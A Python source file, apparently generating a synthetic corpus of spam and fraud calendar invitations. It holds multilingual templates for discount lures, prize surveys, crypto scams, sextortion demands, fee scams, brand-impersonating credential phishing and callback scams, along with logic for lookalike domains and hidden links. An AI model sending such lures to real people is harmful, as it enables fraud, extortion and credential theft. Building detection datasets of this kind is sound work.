# -*- coding: utf-8 -*-
"""Spam and fraud categories (CC0 1.0). Every text here was written for this corpus."""
import datetime as dt
import string

import lang as LG
from core import P
from mk import (bag, fill, kind_for, sender, event, att, message, custom_quirks, random_people, lookalike, spam_url,
                hide, conf, rcpt_first, future_local)
from util import alnum, hexs, uid4

ALL = ['google', 'outlook', 'apple', 'thunderbird', 'zoom', 'nextcloud', 'zimbra', 'yahoo', 'sogo', 'custom']


def T(c, EN, FX, **kw):
    if c.lang == 'en' or c.lang not in FX:
        s, d = bag(c, EN)
    else:
        s, d = FX['zh_tw' if c.tw and 'zh_tw' in FX else c.lang]
        s, d = s.replace(' – ', ' - '), d.replace(' – ', ' - ')
    return fill(s, **kw), fill(d, **kw)


def victims(c, lo=0, hi=8, with_rcpt=True):
    people = random_people(c, c.rint(lo, hi))
    at = [att(p) for p in people]
    if with_rcpt:
        at.insert(c.rint(0, len(at)), att(c.rcpt))
    return at


def finish(c, m, short_notes=None):
    """Typical bulk-tool touches: short cover note, custom quirks."""
    if c.client == 'custom':
        if m.get('method') == 'REQUEST' and c.chance(0.35):
            m['method'] = 'PUBLISH'
        custom_quirks(c, m)
    if short_notes and c.client in ('custom', 'apple', 'thunderbird', 'outlook') and c.chance(0.45):
        m['note'] = c.pick(short_notes)
        if c.client == 'custom' and c.chance(0.5):
            m['text'] = m['note'] + '\n'
            m['html'] = '<html><body><p>%s</p></body></html>\n' % m['note']
    return m


NOTES_EN = ['Please see the attached invitation.', 'Hello, please find the details in the calendar invite.',
            'Kindly accept the invitation.', 'See you there.', 'Details attached.', 'Hi,', '',
            'This is an automated message.', 'Please confirm your attendance.']

FN_LADIES = ['Anna', 'Kristina', 'Sofia', 'Elena', 'Olivia', 'Mia', 'Katya', 'Lina', 'Jessica', 'Alina', 'Vera', 'Emma']


def any_person(c):
    lg = c.pick(['en', 'en', c.lang, 'de', 'es', 'ru', 'pt', 'fr'])
    return c.pick(LG.NAMES[lg])


# ==================================================================== retail-sale
RETAIL_BRANDS = [('Ray-Ban', 'rayban', 'sunglasses'), ('Oakley', 'oakley', 'sunglasses'), ('UGG', 'ugg', 'boots'),
                 ('Pandora', 'pandora', 'charms'), ('Michael Kors', 'mk', 'handbags'), ('Coach', 'coach', 'bags'),
                 ('Nike', 'nike', 'sneakers'), ('Canada Goose', 'canadagoose', 'parkas'), ('Lululemon', 'lulu', 'leggings'),
                 ('Moncler', 'moncler', 'jackets'), ('Longchamp', 'longchamp', 'totes'), ('Skechers', 'skechers', 'shoes')]
RETAIL_EN = [
    ("{brand} {item} Clearance – 85% OFF Today Only", "Official {brand} outlet clearance. All styles from {price}. Free shipping, 30-day returns.\nShop now: {url}"),
    ("Black Friday Early Access: {brand} up to 90% off", "Dear customer, our warehouse is closing and every pair of {item} must go. Prices start at {price}.\n{url}"),
    ("Your {brand} coupon expires tonight", "Use code {code} at checkout for an extra 20% off already reduced {item}.\nVisit {url}"),
    ("{brand} Factory Store — Final Sale", "Genuine {brand} {item}. Limited stock left. Order today, delivered in 3-5 business days.\n{url}"),
    ("Flash sale ⚡ {brand} {item} from {price}", "48 hours only. Over 300 models in stock, secure checkout.\n{url}\nUnsubscribe: reply STOP"),
    ("Christmas Deals: {brand} & more up to 80% off", "Gift ideas for everyone on your list. {brand} {item} starting at {price}, buy 2 get 1 free.\n{url}"),
    ("Mother's Day Special – {brand} {item} {price}", "Treat her to something beautiful. Today only, free gift box with every order.\n{url}"),
]
RETAIL_FX = {
    'zh_tw': ("{brand}官方折扣店 全館1折起 限時搶購", "倉庫清倉，{brand}正品低至{price}，全台免運，七天鑑賞期。\n立即搶購：{url}"),
    'de': ("{brand} {item} – Räumungsverkauf bis zu 85 % Rabatt", "Nur heute: Original {brand} ab {price}. Kostenloser Versand, 30 Tage Rückgaberecht.\nJetzt einkaufen: {url}"),
    'fr': ("Soldes {brand} : jusqu'à -80 % aujourd'hui seulement", "Liquidation totale de notre entrepôt. Tous les modèles {brand} à partir de {price}, livraison offerte.\n{url}"),
    'ja': ("【本日限り】{brand} 公式アウトレット 最大90%OFF", "在庫一掃セール開催中！{brand}の人気モデルが{price}から。送料無料・代引き可。\n今すぐチェック：{url}"),
    'zh': ("{brand}官方折扣店 全场1折起 限时抢购", "仓库清仓，{brand}正品低至{price}，全国包邮，七天无理由退换。\n立即抢购：{url}"),
    'ko': ("{brand} 창고 대방출 최대 90% 할인", "오늘 하루만! {brand} 정품을 {price}부터. 무료배송, 30일 이내 반품 가능.\n지금 쇼핑하기: {url}"),
    'it': ("Saldi {brand}: fino all'85% di sconto solo oggi", "Svendita totale del magazzino. Modelli originali {brand} a partire da {price}, spedizione gratuita.\n{url}"),
}


def retail_sale(c):
    brand, slug, item = c.pick(RETAIL_BRANDS)
    shop = '%s%s.%s' % (slug, c.pick(['-outlet', 'sale', '-clearance', 'store', '-official', 'deals', '-shop']),
                        c.pick(['top', 'shop', 'store', 'online', 'xyz', 'site', 'com', 'us']))
    url = spam_url(c, shop, c.pick(['/', '/sale', '/?utm=cal', '/%s' % alnum(c.rng, 5).lower()]))
    price = c.amount(9, 39)
    s, d = T(c, RETAIL_EN, RETAIL_FX, brand=brand, item=item, price=price, url=url, code=c.code(6))
    kind = kind_for(c, ['free', 'free', 'org', 'vps', 'lookalike'])
    who = c.pick([any_person(c), ('%s %s' % (brand, c.pick(['Outlet', 'Store', 'Sale', 'Shop'])), 'sale'), ('', 'info')])
    dom = {'org': c.org()[1], 'lookalike': shop, 'vps': shop, 'spoof': shop}.get(kind)
    frm, org = sender(c, kind, who=who if who[0] else (brand, 'noreply'), domain=dom)
    allday = c.chance(0.6)
    st, en, tz = c.when(0, 6, allday=allday, dur=c.rint(1, 3) if allday else (60, 120))
    ev = event(c, s, d, st, en, tz, location=c.pick(['', 'Online', url, brand + ' Online Store']), organizer=org,
               attendees=victims(c, 0, 12), allday=allday)
    m = message(c, frm, ev, 'REQUEST')
    if c.chance(0.3):
        hide(c, m, url, 'Shop now')
    m['desc_line'] = '%s discount lure (%s)' % (brand, c.lang)
    return finish(c, m, NOTES_EN if c.lang == 'en' else None)


# ==================================================================== prize-survey
STORES = ['Costco', 'Walmart', 'Amazon', 'Lidl', 'ALDI', 'Tesco', 'Carrefour', 'Target', 'Kaufland', 'IKEA', 'Home Depot',
          "Kohl's", 'Sephora', 'Mercadona', 'Biedronka']
PRIZES = ['Dyson V15 vacuum', 'iPhone 16 Pro', 'KitchenAid mixer', 'Samsung 65" TV', 'Apple Watch', 'PlayStation 5',
          'Ninja air fryer', 'YETI cooler set', 'Stanley tumbler bundle']
PRIZE_EN = [
    ("Congratulations! You've been selected for a {amount} {store} gift card", "Answer a 30-second survey about your recent shopping experience and claim your reward before midnight.\n{url}"),
    ("Your {store} loyalty reward is waiting (ref. {code})", "You have {points} unused points that expire on {date}. Redeem them for a {prize} now — just cover {fee} shipping.\n{url}"),
    ("Final notice: unclaimed reward #{num}", "We tried to reach you several times. Your {prize} is reserved for 24 more hours.\nConfirm delivery: {url}"),
    ("{store} Customer Appreciation Week – you won!", "As one of our valued customers you were randomly picked to receive a {prize}. Complete the short form to claim.\n{url}"),
    ("Spin the wheel – guaranteed prize inside 🎁", "Thank you for being a {store} member. Your free spin is ready.\n{url}"),
    ("Re: Your {prize} delivery", "Hi, your prize package is ready to ship. Please confirm your address and pay the {fee} handling fee.\n{url}"),
]
PRIZE_FX = {
    'es': ("¡Felicidades! Ha sido seleccionado para una tarjeta regalo de {store} de {amount}", "Responda a una breve encuesta de 30 segundos sobre su experiencia de compra y reclame su premio antes de las 23:59.\n{url}"),
    'pt': ("Parabéns! Seu prêmio {store} está aguardando confirmação", "Você foi um dos 5 clientes sorteados esta semana. Confirme seus dados e pague apenas o frete de {fee} para receber seu {prize}.\n{url}"),
    'pl': ("Gratulacje! Wygrałeś {prize} – potwierdź odbiór", "Twój numer zgłoszenia {code} został wylosowany. Wypełnij krótką ankietę i odbierz nagrodę w ciągu 24 godzin.\n{url}"),
    'tr': ("Tebrikler! {store} hediye çeki kazandınız", "{amount} değerindeki hediye çekinizi almak için 1 dakikalık anketi tamamlayın. Kampanya bugün sona eriyor.\n{url}"),
    'th': ("ยินดีด้วย! คุณได้รับรางวัลบัตรของขวัญ {store}", "ตอบแบบสอบถามสั้นๆ 30 วินาที เพื่อรับบัตรของขวัญมูลค่า {amount} สิทธิ์มีจำนวนจำกัด\n{url}"),
    'ar': ("تهانينا! لقد ربحت بطاقة هدية من {store}", "تم اختيارك ضمن الفائزين هذا الأسبوع. أكمل الاستبيان القصير لاستلام بطاقة بقيمة {amount} قبل انتهاء العرض.\n{url}"),
}


def prize_survey(c):
    store = c.pick(STORES)
    slug = store.lower().replace("'", '').replace(' ', '')
    url = spam_url(c, c.pick([None, lookalike(c, slug, ['rewards', 'survey', 'gift', 'winner', 'promo', 'club'])]))
    amt = c.amount(100, 1000, cents=False)
    s, d = T(c, PRIZE_EN, PRIZE_FX, store=store, amount=amt, url=url, code=c.code(8), num=c.digits(6),
             prize=c.pick(PRIZES), fee=c.amount(1, 9), points='{:,}'.format(c.rint(2000, 90000)),
             date=future_local(c, 2).strftime('%d/%m/%Y'))
    kind = kind_for(c, ['free', 'vps', 'lookalike', 'spoof', 'org'])
    dom = {'lookalike': lookalike(c, slug, ['rewards', 'members', 'promo']), 'vps': '%s.%s' % (alnum(c.rng, 8).lower(), c.pick(['top', 'info', 'xyz'])),
           'spoof': slug + '.example', 'org': c.org()[1]}.get(kind)
    who = c.pick([('%s Rewards' % store, 'rewards'), ('Customer Survey', 'survey'), any_person(c), ('%s' % store, 'no-reply')])
    frm, org = sender(c, kind, who=who, domain=dom)
    st, en, tz = c.when(0, 3, dur=(15, 30))
    ev = event(c, s, d, st, en, tz, location=c.pick(['', 'Online', url]), organizer=org, attendees=victims(c, 0, 6))
    m = message(c, frm, ev, 'REQUEST')
    if c.chance(0.35):
        hide(c, m, url, 'Claim')
        if c.chance(0.5):
            ev['description'] = ev['description'].replace(url, '').strip()
    m['desc_line'] = '%s prize/survey lure (%s)' % (store, c.lang)
    return finish(c, m, NOTES_EN if c.lang == 'en' else None)


# ==================================================================== crypto-investment
PLATFORMS = ['CoinVault', 'BitNova Exchange', 'QuantumAI Trade', 'Apex Capital Markets', 'NeoMint', 'TradeSphere Pro',
             'BlockPeak', 'Zentra Finance', 'Aurum Digital']
CRYPTO_EN = [
    ("Your {btc} BTC balance is ready for withdrawal", "Dear user, your {platform} account holds {btc} BTC (≈{usd}). Complete verification before {date} to release the funds.\n{url}"),
    ("Private webinar: the AI trading bot that made our members 300%", "Limited to 25 seats. Live demonstration with our senior analyst, Q&A and a bonus strategy PDF.\nRegister: {url}"),
    ("Invitation: {platform} VIP investment circle", "You have been nominated for our private signals group. Minimum deposit {minimum}, average weekly return 18%.\nJoin here: {url}"),
    ("Airdrop claim window closes today", "Eligible wallets can claim {tok} tokens. Connect your wallet at {url} before 23:59 UTC."),
    ("Account credited: {usdt} USDT", "Your staking rewards have been credited. Withdraw within 48 hours or they will be returned to the pool.\n{url}"),
    ("Follow-up call re: your portfolio", "As discussed, our account manager {mgr} will call you to finalise your first trade. Prepare your ID and a card for the {minimum} deposit. Questions: {phone}"),
]
CRYPTO_FX = {
    'zh_tw': ("您的USDT收益已入帳，請盡快提領", "親愛的用戶，您在{platform}的量化帳戶本月收益為{usdt} USDT，請於48小時內完成驗證並提領。\n{url}"),
    'ru': ("Ваш баланс {btc} BTC готов к выводу", "Уважаемый клиент, на вашем счёте в {platform} накоплено {btc} BTC. Для вывода средств подтвердите личность до {date}.\n{url}"),
    'de': ("Einladung: Exklusives Trading-Webinar – bis zu 400 % Rendite", "Lernen Sie die KI-Handelsstrategie kennen, mit der unsere Mitglieder täglich verdienen. Nur 20 Plätze.\nAnmeldung: {url}"),
    'ko': ("[{platform}] 출금 대기 중인 자산 {btc} BTC", "고객님의 계정에 미출금 자산이 있습니다. 본인 인증 후 24시간 이내에 출금하지 않으면 소멸됩니다.\n{url}"),
    'hi': ("निवेश पर 5 गुना रिटर्न – विशेष वेबिनार आमंत्रण", "हमारे विशेषज्ञ आपको क्रिप्टो ट्रेडिंग का गुप्त तरीका सिखाएंगे। सीटें सीमित हैं, अभी WhatsApp पर जुड़ें: {phone}"),
    'he': ("הזמנה לקבוצת השקעות פרטית – תשואה של 30% בחודש", "מקומות אחרונים בקבוצת המסחר של {platform}. הצטרפו עכשיו דרך הקישור: {url}"),
    'zh': ("您的USDT收益已到账，请及时提取", "尊敬的用户，您在{platform}的量化账户本月收益为{usdt} USDT，请在48小时内完成验证并提现。\n{url}"),
}


def crypto(c):
    platform = c.pick(PLATFORMS)
    slug = platform.lower().replace(' ', '').replace('exchange', '')[:12]
    url = spam_url(c, c.pick([None, lookalike(c, slug, ['app', 'trade', 'wallet', 'invest', 'club', 'vip'])]))
    btc = '%.4f' % c.rng.uniform(0.3, 2.9)
    s, d = T(c, CRYPTO_EN, CRYPTO_FX, platform=platform, btc=btc, usd='$' + '{:,}'.format(c.rint(18000, 190000)), url=url,
             date=future_local(c, 2).strftime('%Y-%m-%d'), minimum=c.pick(['$250', '€250', '$500']), tok='{:,}'.format(c.rint(500, 9000)),
             usdt='{:,.2f}'.format(c.rng.uniform(800, 9000)), mgr=c.pick(['Daniel Ross', 'Eva Klein', 'Marc Dupont', 'Sara Levi']),
             phone=c.phone('en' if c.lang == 'en' else c.lang))
    kind = kind_for(c, ['free', 'lookalike', 'vps', 'org'])
    frm, org = sender(c, kind, who=c.pick([any_person(c), (platform, 'support'), (platform + ' Team', 'team')]),
                      domain={'lookalike': lookalike(c, slug), 'vps': lookalike(c, slug), 'org': c.org()[1]}.get(kind))
    st, en, tz = c.when(1, 10, h0=15, h1=20, dur=(45, 60, 90))
    loc = ''
    if 'webinar' in s.lower() or 'вебинар' in s or 'Webinar' in s or c.client == 'zoom':
        cu, ck = conf(c, 'zoom')
        loc = cu
    ev = event(c, s, d, st, en, tz, location=loc or c.pick(['', 'Online', url]), organizer=org, attendees=victims(c, 0, 10))
    m = message(c, frm, ev, 'REQUEST')
    if c.chance(0.3):
        hide(c, m, url, 'Access account')
    if c.client == 'zoom':
        m['reply_to'] = org
    m['desc_line'] = 'crypto/investment fraud, %s (%s)' % (platform, c.lang)
    return finish(c, m, NOTES_EN if c.lang == 'en' else None)


# ==================================================================== dating-sextortion
DATING_EN = [
    ("Hi, it's {girl} 😘 are you free tonight?", "I saw your profile and really want to meet. I live close to you. My private photos are here: {url}"),
    ("{girl} (24) sent you 3 private photos", "Someone likes you! Open your inbox to see who: {url}"),
    ("New match nearby – {girl}, {age}", "{girl} is 2.1 km away and wants to chat. Reply before she goes offline: {url}"),
    ("I know your secret", "I have access to your device and recorded you through the camera. Send {amount} in Bitcoin to {wallet} within 48 hours or the video goes to all your contacts. Do not reply to this calendar invite."),
    ("Payment required – last warning", "Your password was in a leak and I used it to get into your accounts. Transfer {amount} (BTC) to {wallet}. Timer starts when you open this event."),
    ("Lonely tonight? 💋", "Hey handsome, message me on my private chat, I will be waiting: {url}"),
]
DATING_FX = {
    'ru': ("Привет, это {girl} 😘 Давай встретимся?", "Я видела твой профиль и хочу познакомиться поближе. Мои фото здесь: {url}"),
    'es': ("{girl} te ha enviado 3 fotos privadas", "Hola cariño, estoy sola esta noche... Mira mis fotos y escríbeme: {url}"),
    'ja': ("{girl}です♡ 今夜会えませんか？", "プロフィールを見て気になりました。近くに住んでいます。写真はこちら→ {url}"),
    'el': ("Έχω βίντεο σου. Διάβασε αμέσως.", "Έχω πρόσβαση στη συσκευή σου εδώ και μήνες και κατέγραψα βίντεο. Στείλε {amount} σε Bitcoin στη διεύθυνση {wallet} μέσα σε 48 ώρες, αλλιώς θα το στείλω σε όλες τις επαφές σου."),
    'pl': ("Mam nagranie z Twojej kamery", "Zhakowałem Twoje urządzenie i nagrałem Cię. Przelej {amount} w BTC na portfel {wallet} w ciągu 48 godzin. Nie odpowiadaj na tę wiadomość."),
}


def wallet(c):
    return c.pick(['bc1q' + alnum(c.rng, 38, string.ascii_lowercase + string.digits),
                   '1' + alnum(c.rng, 33, '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz'),
                   '3' + alnum(c.rng, 33, '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz')])


def dating(c):
    girl = c.pick(FN_LADIES) if c.lang not in ('ja',) else c.pick(['ゆい', 'あや', 'みく', 'さき'])
    url = spam_url(c)
    amt = c.pick(['$1,450', '$1,900', '€1,200', '$2,500', '1500 USD', '0.05 BTC']) if c.lang in ('en', 'el', 'pl') else ''
    s, d = T(c, DATING_EN, DATING_FX, girl=girl, age=c.rint(21, 29), url=url, amount=amt, wallet=wallet(c))
    kind = kind_for(c, ['free', 'free', 'vps', 'org'])
    nm = girl if c.chance(0.6) else ''
    frm, org = sender(c, kind, who=(nm, girl.lower() + str(c.rint(80, 2005)) if girl.isascii() else 'love' + c.digits(4)),
                      domain={'vps': '%s.%s' % (alnum(c.rng, 7).lower(), c.pick(['top', 'icu', 'xyz'])), 'org': c.org()[1]}.get(kind))
    st, en, tz = c.when(0, 2, h0=18, h1=22)
    ev = event(c, s, d, st, en, tz, location=c.pick(['', url, 'My place ;)', 'Online']) if 'BTC' not in d and 'Bitcoin' not in d else '',
               organizer=org, attendees=victims(c, 0, 4))
    m = message(c, frm, ev, 'REQUEST')
    if 'wallet' not in s and c.chance(0.25) and url in d:
        hide(c, m, url, 'Photos')
    m['desc_line'] = ('sextortion demand' if ('BTC' in d or 'Bitcoin' in d) else 'dating lure') + ' (%s)' % c.lang
    return finish(c, m, NOTES_EN if c.lang == 'en' else None)


# ==================================================================== fee-scam
FEE_EN = [
    ("Delivery attempt failed – customs fee {fee} outstanding", "{carrier}: your parcel {track} is held at our depot. Pay the outstanding fee of {fee} by {date} to rebook delivery.\n{url}"),
    ("Unpaid toll notice – {fee} due", "{toll}: our records show an unpaid toll of {fee}. To avoid a late fee of $50 please settle your balance today.\n{url}"),
    ("Tax refund of {refund} approved", "{tax}: after the annual calculation of your fiscal activity you are eligible for a refund of {refund}. Submit your claim: {url}"),
    ("Penalty Charge Notice {code}", "A parking contravention was recorded for your vehicle. Pay {fee} within 14 days to benefit from the reduced rate.\n{url}"),
    ("Action required: address confirmation for parcel {track}", "We could not deliver your package because the address is incomplete. Confirm your details and pay the redelivery fee ({fee}).\n{url}"),
    ("Final reminder: vehicle registration fee", "Your registration fee of {fee} is overdue. Your registration will be suspended after {date}.\n{url}"),
]
FEE_FX = {
    'fr': ("Colis en attente : frais de douane de {fee} à régler", "Votre colis n° {track} est retenu au centre de tri. Réglez les frais de {fee} avant le {date} pour reprogrammer la livraison : {url}"),
    'nl': ("Uw pakket kan niet worden bezorgd – betaal {fee} verzendkosten", "PostNL: pakket {track} wacht op betaling van aanvullende kosten. Betaal binnen 24 uur via {url}"),
    'es': ("Multa de tráfico pendiente – Expediente {code}", "La DGT le informa de una sanción pendiente de pago por importe de {fee}. Evite el recargo pagando hoy: {url}"),
    'it': ("Poste Italiane: spedizione in giacenza", "La sua spedizione {track} è in giacenza per indirizzo incompleto. Aggiorni i dati e paghi {fee} di spese di riconsegna: {url}"),
    'el': ("ΕΛΤΑ: Το δέμα σας βρίσκεται σε αναμονή", "Το δέμα με αριθμό {track} δεν παραδόθηκε. Πληρώστε τέλη {fee} για νέα αποστολή: {url}"),
    'pt': ("CTT: Pagamento de taxas aduaneiras pendente", "A sua encomenda {track} aguarda o pagamento de {fee}. Após 48 horas será devolvida ao remetente. Pague aqui: {url}"),
}


def fee_scam(c):
    carrier = c.pick(['USPS', 'UPS', 'DHL Express', 'Royal Mail', 'FedEx', 'Evri', 'Canada Post'])
    toll = c.pick(['E-ZPass', 'SunPass', 'FasTrak', 'TxTag', 'The Toll Roads', 'Peach Pass'])
    tax = c.pick(['IRS', 'HMRC', 'CRA', 'ATO'])
    brand = {'fr': 'laposte', 'nl': 'postnl', 'es': 'dgt', 'it': 'poste', 'el': 'elta', 'pt': 'ctt'}.get(c.lang) or \
        c.pick([carrier, toll, tax]).lower().replace(' ', '').replace('-', '')
    dom = lookalike(c, brand, ['pay', 'track', 'delivery', 'gov', 'fees', 'refund', 'portal', 'help'])
    url = spam_url(c, c.pick([dom, None, dom]), c.pick(['/', '/pay', '/track?id=%s' % c.code(10), '/?%s' % alnum(c.rng, 6)]))
    s, d = T(c, FEE_EN, FEE_FX, carrier=carrier, toll=toll, tax=tax, fee=c.amount(1, 6) if c.lang != 'en' else '$' + '%.2f' % c.rng.uniform(1.2, 12.9),
             refund=c.pick(['$', '£']) + '{:,.2f}'.format(c.rng.uniform(180, 980)), track=c.code(2) + c.digits(9) + c.code(2),
             url=url, code=c.code(3) + c.digits(7), date=future_local(c, 2).strftime('%d/%m/%Y'))
    kind = kind_for(c, ['lookalike', 'spoof', 'vps', 'free', 'org'])
    who = c.pick([(carrier if c.lang == 'en' else brand.upper(), 'noreply'), ('Customer Service', 'service'),
                  (toll, 'notice') if c.lang == 'en' else ('Info', 'info'), ('', 'notification')])
    frm, org = sender(c, kind, who=who, domain={'lookalike': dom, 'spoof': brand + '.example', 'vps': dom,
                                               'org': c.org()[1]}.get(kind))
    st, en, tz = c.when(0, 2, dur=(15, 30))
    ev = event(c, s, d, st, en, tz, location='', organizer=org, attendees=victims(c, 0, 3))
    m = message(c, frm, ev, 'REQUEST')
    if c.chance(0.4):
        hide(c, m, url, 'Pay now')
        if c.chance(0.5):
            ev['description'] = ev['description'].replace(url, '').strip()
    m['desc_line'] = 'fee/fine payment lure (%s)' % c.lang
    return finish(c, m, NOTES_EN if c.lang == 'en' else None)


# ==================================================================== credential-phish
PHISH_EN = [
    ('m365', "Password expiry notice for {email}", "Your Microsoft 365 password expires today. To keep your current password, confirm below.\n{url}\nMicrosoft 365 Admin"),
    ('m365', "You have (3) pending messages on hold", "Some incoming messages for {email} were held because your mailbox quota is exceeded. Release them here: {url}"),
    ('m365', "New voicemail from {phone} (00:{sec})", "You received a new voice message. Sign in with your work account to listen.\n{url}"),
    ('docusign', "Please DocuSign: {doc}", "{sender} sent you a document to review and sign.\nREVIEW DOCUMENT: {url}\nDo not share this email."),
    ('paypal', "Your account access has been limited", "We noticed unusual activity. Until you confirm your information, some features will remain restricted.\nResolve now: {url}"),
    ('bank', "Secure message from {bank}", "You have 1 unread secure message regarding your account. Sign in to Online Banking to read it: {url}"),
    ('adobe', "{sender} shared \"{doc}\" with you", "Adobe Document Cloud: open the shared PDF. Sign in with your email provider to view.\n{url}"),
    ('dropbox', "Dropbox: {sender} invited you to \"{doc}\"", "View files: {url}\nThe link expires in 48 hours."),
    ('gov', "Benefit payment update required", "Your {agency} account requires verification to continue receiving payments. Log in to update your details: {url}"),
    ('m365', "Teams: {sender} is waiting for you in \"{doc}\"", "Your presence was requested. Please sign in to join the shared workspace.\n{url}"),
]
PHISH_FX = {
    'de': ('m365', "Ihr Microsoft 365-Kennwort läuft heute ab", "Ihr Kennwort für {email} läuft in 24 Stunden ab. Um das aktuelle Kennwort beizubehalten, bestätigen Sie bitte hier: {url}"),
    'nl': ('docusign', "DocuSign: Document ter ondertekening – {doc}", "{sender} heeft u een document gestuurd om te beoordelen en te ondertekenen. Bekijk het document: {url}"),
    'ja': ('bank', "【重要】お客様のアカウントが一時的に制限されました", "不正なログインの可能性を検知したため、ご利用を一時停止しております。以下のリンクから本人確認を行ってください。\n{url}"),
    'ar': ('bank', "تنبيه أمني: تم تعليق حسابك المصرفي مؤقتًا", "لاحظنا نشاطًا غير معتاد على حسابك. يرجى تحديث بياناتك خلال 24 ساعة لتجنب الإيقاف الدائم: {url}"),
    'he': ('m365', "התקבלה הודעה קולית חדשה (00:{sec})", "יש לך הודעה קולית חדשה מ-{phone}. להאזנה היכנס עם פרטי החשבון שלך: {url}"),
    'fr': ('adobe', "Adobe Acrobat : {sender} a partagé « {doc} » avec vous", "Un document PDF sécurisé vous a été partagé. Connectez-vous avec votre adresse professionnelle pour le consulter : {url}"),
    'ko': ('gov', "[국세청] 환급금 조회 안내", "귀하에게 미수령 환급금 {amount}이(가) 있습니다. 아래 링크에서 본인 인증 후 신청하시기 바랍니다.\n{url}"),
}
BRAND_NAMES = {'m365': ('Microsoft 365', 'microsoft365'), 'docusign': ('DocuSign', 'docusign'), 'paypal': ('PayPal', 'paypal'),
               'bank': ('Online Banking', 'secure-bank'), 'adobe': ('Adobe Document Cloud', 'adobe'),
               'dropbox': ('Dropbox', 'dropbox'), 'gov': ('Service Portal', 'gov-portal')}


def phish(c):
    if c.lang == 'en':
        br, s, d = bag(c, PHISH_EN)
    else:
        br, s, d = PHISH_FX[c.lang]
    bname, bslug = BRAND_NAMES[br]
    dom = lookalike(c, bslug)
    url = c.pick([spam_url(c, dom, '/%s' % c.pick(['login', 'auth', 'signin', 'verify', 'view', 'doc'])),
                  spam_url(c), spam_url(c, None, '/index.html#' + c.rcpt.email)])
    partner = c.org(c.pick(['en', c.lang]))
    sndr = c.pick(LG.NAMES[c.lang])[0]
    doc = c.pick(['Q%d Agreement.pdf' % c.rint(1, 4), 'Payment_Advice_%s.pdf' % c.digits(5), 'Contract Renewal',
                  'Revised Invoice %s' % c.digits(6), 'Salary Adjustment %d' % c.year, 'NDA - %s' % partner[0],
                  'Project Proposal', 'HR Policy Update'])
    s, d = fill(s, email=c.rcpt.email, phone=c.phone(), sec='%02d' % c.rint(10, 59), doc=doc, sender=sndr,
                bank=c.pick(['Sable Ridge Credit Union', 'your bank', 'Online Banking']), agency=c.pick(['myGov', 'SSA', 'Universal Credit']),
                amount=c.amount(120000, 900000, cents=False) if c.lang == 'ko' else ''), \
        fill(d, email=c.rcpt.email, phone=c.phone(), sec='%02d' % c.rint(10, 59), doc=doc, sender=sndr, url=url,
             bank=c.pick(['Sable Ridge Credit Union', 'your bank']), agency=c.pick(['myGov', 'SSA', 'Universal Credit']),
             amount=c.amount(120000, 900000, cents=False) if c.lang == 'ko' else '')
    kind = kind_for(c, ['lookalike', 'org', 'spoof', 'free', 'vps', 'lookalike'])
    if kind == 'org':
        # a compromised mailbox at some real organisation sends the brand lure
        who = (sndr, None)
        frm, org = sender(c, 'org', who=c.name(), domain=partner[1])
    else:
        frm, org = sender(c, kind, who=(bname, c.pick(['no-reply', 'notification', 'security', 'admin', 'support'])),
                          domain={'lookalike': dom, 'spoof': bslug + '.example', 'vps': dom}.get(kind))
    st, en, tz = c.when(0, 2, dur=(15, 30))
    ev = event(c, s, d, st, en, tz, location='', organizer=org, attendees=[att(c.rcpt)] + ([att(p) for p in random_people(c, c.rint(0, 3), domains=[c.rcpt.domain])] if c.chance(0.4) else []))
    m = message(c, frm, ev, 'REQUEST')
    if c.chance(0.5):
        w = hide(c, m, url, c.pick(['Review Document', 'Sign in', 'Open', 'Listen']),
                 fname=c.pick(['%s.pdf' % doc.replace(' ', '_'), 'Voicemail.html', 'Secure_Message.htm']))
        if c.chance(0.6):
            ev['description'] = ev['description'].replace(url, '').replace('\n\n', '\n').strip()
    m['desc_line'] = '%s credential phishing (%s)' % (bname, c.lang)
    return finish(c, m, NOTES_EN if c.lang == 'en' else None)


# ==================================================================== callback-scam
CB_BRANDS = ['Norton 360', 'McAfee Total Protection', 'Geek Squad', 'PayPal', 'Microsoft Defender', 'Best Buy Protection',
             'Amazon Prime', 'Avast Premium', 'LifeLock']
CB_EN = [
    ("Subscription renewed – Invoice #{inv}", "Thank you for renewing {brand}. {amount} has been charged to your account and will appear within 24 hours. If you did not authorise this renewal, call our billing team at {phone}."),
    ("Order confirmation {inv}: {amount}", "Your order has been processed. Item: {brand} (3 devices, 2 years). Total {amount}. To cancel or request a refund call {phone} (Mon–Sat)."),
    ("{brand} – Auto-Renewal Successful", "Customer ID {cid}\nAmount: {amount}\nPayment method: auto-debit\nQuestions or disputes: {phone}"),
    ("Security alert: your device license expired", "Your {brand} protection has expired and your PC may be at risk. Speak to a certified technician now: {phone}"),
    ("Refund pending – call to confirm", "We were unable to process your refund of {amount}. Please call {phone} and quote reference {inv}."),
]
CB_FX = {
    'fr': ("Confirmation de renouvellement – Facture n° {inv}", "Votre abonnement {brand} a été renouvelé pour {amount}. Si vous n'êtes pas à l'origine de ce paiement, appelez notre service client au {phone} dans les 24 heures."),
    'it': ("Ordine confermato #{inv} – {amount}", "Grazie per il tuo acquisto ({brand}). L'importo di {amount} verrà addebitato entro 24 ore. Per annullare l'ordine chiama il {phone}."),
    'th': ("แจ้งต่ออายุสมาชิก {brand} – ใบแจ้งหนี้ {inv}", "บัญชีของคุณถูกหักเงิน {amount} สำหรับการต่ออายุ หากคุณไม่ได้ทำรายการนี้ โปรดโทร {phone} ภายใน 24 ชั่วโมง"),
    'hi': ("आपका {brand} सब्सक्रिप्शन नवीनीकृत हो गया है", "आपके खाते से {amount} काटे जाएंगे। यदि आपने यह अनुरोध नहीं किया है, तो तुरंत हमारे हेल्पडेस्क {phone} पर कॉल करें।"),
    'nl': ("Bevestiging verlenging abonnement – factuur {inv}", "Uw {brand}-abonnement is automatisch verlengd voor {amount}. Niet akkoord? Bel binnen 24 uur onze klantenservice: {phone}."),
}


def callback(c):
    brand = c.pick(CB_BRANDS)
    ph = c.phone(tollfree=True) if c.lang == 'en' or c.chance(0.5) else c.phone()
    amt = '$%s' % c.pick(['299.99', '399.99', '449.00', '349.95', '289.99', '519.98']) if c.lang == 'en' else c.amount(250, 600)
    s, d = T(c, CB_EN, CB_FX, brand=brand, amount=amt, phone=ph, inv=c.pick(['INV', 'NRT', 'GS', '']) + c.digits(c.rint(6, 10)),
             cid=c.digits(9))
    kind = kind_for(c, ['free', 'free', 'lookalike', 'vps'])
